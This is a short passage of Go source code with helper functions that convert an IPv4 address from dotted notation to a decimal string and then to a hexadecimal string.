		v, _ := strconv.Atoi(p)
		n = n<<8 | uint32(v)
	}
	return strconv.FormatUint(uint64(n), 10)
}

func ipHex(ip string) string {
	d, _ := strconv.ParseUint(ipDecimal(ip), 10, 32)
	return strconv.FormatUint(d, 16)
}
